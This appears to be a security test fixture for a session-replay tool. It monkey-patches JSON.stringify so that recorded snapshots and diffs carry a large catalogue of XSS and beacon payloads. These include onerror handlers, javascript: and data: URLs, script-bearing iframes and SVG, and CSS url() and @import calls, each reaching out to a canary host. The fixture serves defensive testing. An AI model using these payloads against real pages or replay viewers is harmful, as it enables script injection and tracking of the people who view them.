// A visitor whose browser lies: everything a page could try against the one who looks at it, put into the recorded stream
// behind the visitor's own scrubber.

/**
 * Runs in the visitor's page before any script. `canary` is the address of a server that must never be asked. Recorded events
 * pass `JSON.stringify` last, so hostile nodes are added there: to the snapshot, and to every diff as an addition.
 */
export function lieAboutThePage(canary) {
    const hit = (name) => `${canary}/${name}`;
    const evil = (name) => `(window.top || window).__pwned='${name}';parent.__pwned='${name}';fetch('${hit(`script-${name}`)}');alert(1)`;
    let id = 900_000;
    const text = (content) => ({ type: 3, textContent: content, id: (id += 1) });
    const element = (tagName, attributes = {}, ...childNodes) => ({ type: 2, tagName, attributes, childNodes, id: (id += 1) });
    const svg = (tagName, attributes = {}, ...childNodes) => ({ ...element(tagName, attributes, ...childNodes), isSVG: true });
    const nodes = (when) => [
        element('p', { id: `marker-${when}` }, text('hostile marker')),
        element('img', { src: hit('img'), onerror: evil('img'), srcset: `${hit('srcset')} 2x`, rr_dataURL: hit('rrdataurl') }),
        element('img', { src: 'x', onerror: evil('img2'), onload: evil('img3'), loading: 'eager' }),
        element('img', { rr_src: hit('rrsrc'), 'data-src': hit('datasrc'), lowsrc: hit('lowsrc'), dynsrc: hit('dynsrc') }),
        element('script', {}, text(evil('script'))),
        element('script', { src: hit('scriptsrc') }),
        element('SCRIPT', { type: 'module', src: hit('modulesrc') }, text(evil('module'))),
        element('noscript', {}, element('img', { src: hit('noscriptimg') }), text(evil('noscript'))),
        element('iframe', { srcdoc: `<script>${evil('srcdoc')}</script><img src="${hit('srcdocimg')}">` }),
        element('iframe', { src: `javascript:${evil('iframejs')}` }),
        element('iframe', { src: hit('iframe'), rr_src: hit('iframerr') }),
        element('iframe', { src: `data:text/html,<script>${evil('iframedata')}</script>` }),
        element('frame', { src: hit('frame') }),
        element('object', { data: hit('object'), type: 'text/html' }),
        element('embed', { src: hit('embed'), type: 'text/html' }),
        element('applet', { archive: hit('applet'), code: hit('appletcode') }),
        element('a', { href: `javascript:${evil('link')}`, ping: hit('ping'), id: `link-${when}`, style: 'position:fixed;inset:0;z-index:99' }, text('press me')),
        element('a', { href: hit('anchor'), target: '_top', download: 'x' }, text('go away')),
        element('form', { action: `javascript:${evil('form')}` }, element('input', { type: 'image', src: hit('inputimage'), formaction: hit('formaction') })),
        element('input', { autofocus: '', onfocus: evil('focus'), value: 'x' }),
        element('details', { open: '', ontoggle: evil('toggle') }, text('x')),
        element('meta', { 'http-equiv': 'refresh', content: `0;url=${hit('refresh')}` }),
        element('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src * 'unsafe-inline'" }),
        element('base', { href: `${canary}/base/` }),
        element('link', { rel: 'stylesheet', href: hit('stylesheet') }),
        element('link', { rel: 'stylesheet', _cssText: `@import url("${hit('csstextimport')}"); body { background: url(${hit('csstext')}) }` }),
        element('link', { rel: 'preload', as: 'image', href: hit('preload') }),
        element('link', { rel: 'prefetch', href: hit('prefetch') }),
        element('link', { rel: 'icon', href: hit('icon') }),
        element('link', { rel: 'modulepreload', href: hit('modulepreload') }),
        element('link', { rel: 'manifest', href: hit('manifest') }),
        element('style', { _cssText: `@import "${hit('import')}"; @font-face { font-family: f; src: url(${hit('font')}) } * { font-family: f; cursor: url(${hit('cursor')}), auto }` }),
        element('style', {}, { ...text(`@import url(${hit('import2')}); p { background-image: image-set("${hit('imageset')}" 1x) } b::after { content: url(\\68 ttp:${canary.slice(5)}/escaped) }`), isStyle: true }),
        element('div', { style: `width:50px;height:50px;background:url("${hit('inline')}");list-style:url(${hit('liststyle')});mask:url(${hit('mask')});filter:url(${hit('filter')}#x)` }, text('x')),
        element('div', { style: `--u:url(${hit('variable')});background:var(--u);border-image:url(${hit('border')}) 1` }, text('x')),
        element('table', { background: hit('tablebackground') }, element('tbody', {}, element('tr', {}, element('td', { background: hit('tdbackground') })))),
        element('video', { src: hit('video'), poster: hit('poster'), autoplay: '', onloadstart: evil('video') }, element('source', { src: hit('source') }), element('track', { src: hit('track'), default: '' })),
        element('audio', { src: hit('audio'), autoplay: '', rr_mediaState: 'played' }),
        element('picture', {}, element('source', { srcset: hit('picture') }), element('img', { src: hit('pictureimg') })),
        element('canvas', { rr_dataURL: hit('canvas') }),
        element('marquee', { onstart: evil('marquee') }, text('x')),
        element('x-custom', { onclick: evil('custom'), is: 'x-y' }),
        svg('svg', { onload: evil('svgload'), viewBox: '0 0 9 9' },
            svg('script', {}, text(evil('svgscript'))),
            svg('script', { href: hit('svgscripthref') }),
            svg('image', { href: hit('svgimage'), 'xlink:href': hit('svgimagexlink') }),
            svg('use', { href: `${hit('svguse')}#a` }),
            svg('feImage', { href: hit('feimage') }),
            svg('rect', { fill: `url(${hit('fill')}#x)`, width: '5', height: '5' }),
            svg('a', { 'xlink:href': `javascript:${evil('svglink')}` }, svg('text', {}, text('x'))),
            svg('animate', { attributeName: 'href', values: `javascript:${evil('animate')}`, onbegin: evil('begin') }),
            svg('set', { attributeName: 'onmouseover', to: evil('set') }),
            svg('foreignObject', {}, element('iframe', { src: hit('foreigniframe') }), element('img', { src: hit('foreignimg'), onerror: evil('foreign') }))),
        { ...element('div', {}, { ...element('img', { src: hit('shadowimg'), onerror: evil('shadow') }), isShadow: true }), isShadowHost: true },
    ];
    const bodyOf = (node) => (node.tagName === 'body' ? node : (node.childNodes ?? []).map(bodyOf).find((found) => found !== undefined));
    // A diff names every node by itself, parents first.
    const addsOf = (node, parentId) => [
        { parentId, nextId: null, node: { ...node, ...(node.childNodes && { childNodes: [] }) } },
        ...(node.childNodes ?? []).flatMap((child) => addsOf(child, node.id)),
    ];
    let body = 0;
    const native = JSON.stringify;
    const lie = (event) => {
        if (event?.type === 2) {
            const found = bodyOf(event.data.node);
            body = found.id;
            found.attributes.onload = evil('body');
            found.attributes.background = hit('bodybackground');
            found.childNodes.push(...nodes('snapshot'));
        } else if (event?.type === 3 && event.data.source === 0 && body !== 0) {
            const added = nodes('diff');
            const image = added[1].id;
            event.data.adds.push(...added.flatMap((node) => addsOf(node, body)));
            event.data.attributes.push({ id: image, attributes: { src: hit('latersrc'), style: { background: `url(${hit('laterstyle')})` }, onclick: evil('later') } });
            event.data.attributes.push({ id: body, attributes: { background: hit('laterbackground'), onpageshow: evil('laterbody') } });
        }
        return event;
    };
    JSON.stringify = (value, ...rest) => {
        if (Array.isArray(value)) value.forEach(lie);
        else if (value?.type === 3) lie(value);
        return native(value, ...rest);
    };
}
